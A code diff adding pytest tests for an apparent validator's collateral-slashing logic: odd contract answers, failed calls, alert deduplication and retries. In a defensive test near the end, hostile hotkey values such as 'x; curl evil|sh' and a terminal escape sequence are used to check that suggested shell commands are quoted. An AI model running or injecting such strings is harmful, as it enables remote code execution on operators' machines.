@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import asyncio
 import threading
+from types import SimpleNamespace
 from typing import TYPE_CHECKING, Any
 
+import numpy as np
 import pytest
 from reference_validator import InjectedError, Managed
 from reference_validator.scoring import NothingMovedError
@@ -297,13 +300,250 @@ def test_contract_that_raises_leaves_the_slash_in_doubt(managed: Managed, moved:
     assert complete(managed) == TEN
 
 
-def test_contract_that_answers_false_leaves_the_slash_in_doubt(managed: Managed) -> None:
+class Pending:
+    """What will happen some day, if it does not happen already."""
+
+    def __await__(self) -> Any:
+        raise AssertionError("nobody waits for it")
+
+
+@pytest.mark.parametrize(
+    "answer", [False, np.False_, 0, 1, "done", (True, "tx"), (), InjectedError("no"), np.array([True]), Pending()]
+)
+def test_contract_that_answers_anything_but_yes_leaves_the_slash_in_doubt(directly: Managed, answer: Any) -> None:
+    directly.validator.register("a")
+    directly.validator.lose("a", 0.2)
+    directly.validator.collateral.answer = answer
+    directly.tick()
+    assert state_of_slash(directly) == [IN_DOUBT]
+    [alert] = directly.alerts
+    assert f"answered {type(answer).__name__}" in alert
+
+
+@pytest.mark.parametrize("answer", [None, True, np.True_])
+def test_contract_that_answers_yes_or_nothing_has_slashed(directly: Managed, answer: Any) -> None:
+    directly.validator.register("a")
+    directly.validator.lose("a", 0.2)
+    directly.validator.collateral.answer = answer
+    directly.tick()
+    assert (directly.debts, directly.alerts) == ([], [])
+
+
+async def slash_later(_hotkey: str, slash_proportion: float | None = None) -> None:
+    raise AssertionError("nobody runs it")
+
+
+@pytest.mark.parametrize(
+    ("slash", "why"),
+    [
+        (slash_later, "coroutine"),
+        (lambda hotkey, slash_proportion=None: slash_later(hotkey), "coroutine"),
+        (lambda: None, "positional argument"),
+        (lambda hotkey, share: None, "argument"),
+        (lambda hotkey, proportion=None, /: None, "slash_proportion"),
+        ("no method", "not callable"),
+    ],
+)
+def test_contract_that_cannot_be_called_so_has_certainly_not_slashed(
+    directly: Managed, slash: Any, why: str, recwarn: pytest.WarningsRecorder
+) -> None:
+    directly.environment.slash_proportions["MAX_TOTAL_DRAWDOWN"] = 0.5
+    contract = directly.manager.contract_manager
+    good = contract.slash_miner_collateral_proportion
+    contract.slash_miner_collateral_proportion = slash
+    directly.validator.register("a")
+    directly.validator.lose("a", 0.2)
+    directly.tick()
+    assert state_of_slash(directly) == [OWED]
+    [alert] = directly.alerts
+    assert "was not made" in alert
+    assert why in alert
+    assert [str(warning.message) for warning in recwarn] == []
+    contract.slash_miner_collateral_proportion = good
+    directly.tick()
+    assert directly.validator.collateral.taken("a") == [50.0]
+
+
+def test_share_is_passed_by_its_name(directly: Managed) -> None:
+    taken: list[Any] = []
+
+    def slash(hotkey: str, *, note: str = "", slash_proportion: float | None = None) -> None:
+        taken.append((hotkey, note, slash_proportion))
+
+    directly.manager.contract_manager.slash_miner_collateral_proportion = slash
+    directly.environment.slash_proportions["PLAGIARISM"] = 0.5
+    directly.validator.register("a", "b")
+    directly.validator.probation.fail("a", "PLAGIARISM", None)
+    directly.validator.probation.fail("b", "FAILED_CHALLENGE_PERIOD_TIME", None)
+    directly.tick()
+    assert taken == [("a", "", 0.5), ("b", "", None)]
+
+
+def test_share_that_nobody_can_say_stops_nobody_elses_debts(managed: Managed) -> None:
+    ten_to_eliminate(managed)
+    known = managed.environment.slash_proportion
+
+    def fail_for_the_third(reason: str) -> Any:
+        if reason == "LIQUIDATED":
+            raise KeyError(reason)
+        return known(reason)
+
+    managed.environment.slash_proportion = fail_for_the_third
+    managed.validator.lose(THIRD, 0.7)
+    for _ in range(3):
+        managed.tick()
+    assert sorted(complete(managed)) == sorted(set(TEN) - {THIRD})
+    assert [(debt["kind"], debt["state"], debt["attempts"]) for debt in managed.debts] == [("slash", OWED, 3)]
+    [alert] = managed.alerts
+    assert THIRD in alert
+    managed.environment.slash_proportion = known
+    managed.tick()
+    assert sorted(complete(managed)) == sorted(TEN)
+
+
+@pytest.mark.parametrize("error", [InjectedError("refused"), asyncio.CancelledError()])
+def test_attempt_that_cannot_begin_stops_nobody_elses_debts(directly: Managed, error: BaseException) -> None:
+    ten_to_eliminate(directly)
+    server = directly.manager._server_proxy
+    begin = server.begin_slash_rpc
+
+    def refuse_the_third(hotkey: str, attempt: str) -> bool:
+        if hotkey == THIRD:
+            raise error
+        return begin(hotkey, attempt)
+
+    server.begin_slash_rpc = refuse_the_third
+    for _ in range(2):
+        directly.tick()
+    assert complete(directly) == [hotkey for hotkey in TEN if hotkey != THIRD]
+    assert state_of_slash(directly) == [OWED]
+    assert len(directly.alerts) == 1
+    server.begin_slash_rpc = begin
+    directly.tick()
+    assert complete(directly) == TEN
+
+
+@pytest.mark.parametrize("point", ["cancel", "store", "slash"])
+def test_cancelled_error_is_that_miners_failure(directly: Managed, point: str) -> None:
+    ten_to_eliminate(directly)
+    directly.validator.faults.fail(point, asyncio.CancelledError(), hotkey=THIRD)
+    directly.tick()
+    assert complete(directly) == [hotkey for hotkey in TEN if hotkey != THIRD]
+    assert len(directly.alerts) == 1
+    if point == "slash":
+        assert state_of_slash(directly) == [IN_DOUBT]
+    else:
+        directly.tick()
+        assert complete(directly) == TEN
+
+
+def test_doubt_is_told_though_it_was_told_before_that_the_slash_was_not_made(managed: Managed) -> None:
     managed.validator.register("a")
     managed.validator.lose("a", 0.2)
-    managed.validator.collateral.answer = False
+    managed.validator.faults.fail("slash", NothingMovedError("refused"))
     managed.tick()
-    assert state_of_slash(managed) == [IN_DOUBT]
-    assert len(managed.alerts) == 1
+    managed.validator.faults.fail("slash")
+    for _ in range(3):
+        managed.tick()
+    assert ["nobody knows" in alert for alert in managed.alerts] == [False, True]
+
+
+def test_each_doubt_is_told_once(managed: Managed) -> None:
+    managed.validator.register("a")
+    managed.validator.lose("a", 0.2)
+    managed.validator.faults.fail("slash", times=2)
+    for told in (1, 2):
+        for _ in range(2):
+            managed.tick()
+        assert len(managed.alerts) == told
+        assert managed.manager.resolve_slash("a", made=False)
+    managed.tick()
+    assert managed.debts == []
+    assert len(managed.alerts) == 2
+    assert managed.manager._processor.alerts._told == {}
+
+
+def test_alert_that_could_not_be_sent_is_sent_later(managed: Managed) -> None:
+    ten_to_eliminate(managed)
+    faults = managed.validator.faults
+    faults.fail("slash", hotkey=THIRD)
+    faults.fail("store", hotkey=TEN[4], times=None)
+    silent = faults.fail("slack", times=None)
+    for _ in range(3):
+        managed.tick()
+    assert silent.happened
+    assert managed.alerts == []
+    silent.times = 0
+    for _ in range(3):
+        managed.tick()
+    assert len(managed.alerts) == 2
+    assert any("nobody knows" in alert and THIRD in alert for alert in managed.alerts)
+    assert any("positions" in alert and TEN[4] in alert for alert in managed.alerts)
+
+
+def test_alert_that_slack_does_not_take_is_sent_later(directly: Managed) -> None:
+    """A notifier says so by False."""
+    answers = [False, False, True]
+    sent: list[str] = []
+
+    def send(text: str, level: str) -> bool:
+        assert level == "error"
+        sent.append(text)
+        return answers.pop(0)
+
+    directly.manager.slack_notifier = SimpleNamespace(send_message=send)
+    directly.validator.register("a")
+    directly.validator.lose("a", 0.2)
+    directly.validator.faults.fail("slash")
+    for _ in range(5):
+        directly.tick()
+    assert len(sent) == 3
+
+
+def test_alert_that_no_longer_holds_is_not_sent_later(managed: Managed) -> None:
+    ten_to_eliminate(managed)
+    managed.validator.faults.fail("store", hotkey=THIRD)
+    silent = managed.validator.faults.fail("slack", times=None)
+    managed.tick()
+    managed.tick()
+    silent.times = 0
+    managed.tick()
+    assert complete(managed) == TEN
+    assert managed.alerts == []
+
+
+def test_doubt_of_an_earlier_process_is_told(managed: Managed) -> None:
+    """It may have ended before it could tell."""
+    managed.validator.register("a")
+    managed.validator.lose("a", 0.2)
+    managed.validator.faults.fail("slash")
+    managed.validator.faults.fail("slack", times=None)
+    managed.tick()
+    managed.restart()
+    for _ in range(2):
+        managed.tick()
+    [alert] = managed.alerts
+    assert "nobody knows" in alert
+
+
+@pytest.mark.parametrize(
+    ("hotkey", "advice"),
+    [
+        ("x; curl evil|sh", "shmelim slash resolve 'x; curl evil|sh'"),
+        ("two\nlines\x1b[2J", r"shmelim slash resolve 'two\nlines\x1b[2J'"),
+        ("--made", "shmelim slash resolve -- --made"),
+    ],
+)
+def test_what_a_stranger_chose_is_no_command_and_no_second_line(
+    directly: Managed, hotkey: str, advice: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    directly.validator.probation.fail(hotkey, "PLAGIARISM", None)
+    directly.validator.faults.fail("slash", InjectedError("all\nfine"))
+    directly.tick()
+    [alert] = directly.alerts
+    assert alert.endswith(advice)
+    assert alert.isprintable()
+    assert alert in caplog.messages
 
 
 def test_slash_that_was_certainly_not_made_is_made_by_a_later_tick(managed: Managed) -> None:
